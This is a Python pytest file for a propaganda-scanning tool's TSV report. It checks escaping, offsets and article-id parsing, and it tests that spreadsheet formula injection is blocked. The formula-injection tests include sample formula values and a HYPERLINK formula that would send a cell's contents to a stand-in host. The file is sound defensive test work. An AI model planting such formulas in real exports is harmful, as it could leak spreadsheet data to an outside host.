"""The TSV report: one line per fragment, escaped text, offsets that address the text."""

from __future__ import annotations

from collections.abc import Callable

import pytest
from hypothesis import given
from hypothesis import strategies as st

from propscan.analysis import Analysis
from propscan.document import Metadata
from propscan.report import render
from propscan.report.tsv import HEADER, article_id, escape_field, unescape_field


def test_rows_parse_back_to_offsets_that_address_the_text(hostile: Analysis) -> None:
    lines = render(hostile, "tsv").splitlines()
    assert lines[0].split("\t") == list(HEADER)
    assert len(lines) == 1 + len(hostile.spans)
    text = hostile.document.text
    for line, span in zip(lines[1:], hostile.spans, strict=True):
        ident, technique, start, end, confidence, escaped = line.split("\t")
        assert ident == "7712"
        assert technique == span.technique
        assert text[int(start) : int(end)] == unescape_field(escaped) == span.text
        assert float(confidence) == pytest.approx(span.confidence, abs=1e-4)


def test_text_with_tabs_and_newlines_stays_on_one_line(build: Callable[..., Analysis]) -> None:
    text = "a\tb\\n\nc\r\nd\u2028e"
    analysis = build(text, [(text, "Repetition", 0.5)])
    lines = render(analysis, "tsv").splitlines()
    assert len(lines) == 2
    escaped = lines[1].split("\t")[-1]
    assert escaped == "a\\tb\\\\n\\nc\\r\\nd\\u2028e"
    assert unescape_field(escaped) == text


@given(st.text())
def test_escape_round_trips_and_has_no_line_breaks(value: str) -> None:
    escaped = escape_field(value)
    assert "\t" not in escaped
    assert len(escaped.splitlines()) <= 1
    assert unescape_field(escaped) == value


@pytest.mark.parametrize(
    ("source", "expected"),
    [
        ("article123.txt", "123"),
        ("/data/ptc/train-articles/article111111112.txt", "111111112"),
        ("C:\\corpus\\article5.txt", "5"),
        ("notes/my.story.txt", "my.story"),
        ("article.txt", "article"),
        ("https://example.org/news/story.html?id=3", "story"),
        ("plain", "plain"),
        (None, "-"),
        ("", "-"),
    ],
)
def test_article_id(source: str | None, expected: str) -> None:
    assert article_id(source) == expected


def test_unknown_source_gives_dash_and_empty_analysis_gives_header_only(
    build: Callable[..., Analysis],
) -> None:
    analysis = build("Calm prose.", [], Metadata())
    assert render(analysis, "tsv") == "\t".join(HEADER) + "\n"


@pytest.mark.parametrize("value", ["=1+1", "+1", "-2", "@SUM(A1)", "\uff1d1", "\tx"])
def test_fields_never_start_with_a_formula_character(value: str) -> None:
    escaped = escape_field(value)
    assert not escaped.startswith(("=", "+", "-", "@", "\t", "\r", "\uff1d"))
    assert escaped.startswith("\\")
    assert unescape_field(escaped) == value


def test_fragment_text_starting_with_a_formula_does_not_reach_the_spreadsheet(
    build: Callable[..., Analysis],
) -> None:
    text = '=HYPERLINK("http://x/"&A1,"Click") is what they want.'
    fragment = text[: text.index(" is")]
    analysis = build(text, [(fragment, "Loaded_Language", 0.9)])
    row = render(analysis, "tsv").splitlines()[1].split("\t")
    assert row[-1].startswith("\\x3dHYPERLINK(") and unescape_field(row[-1]) == fragment
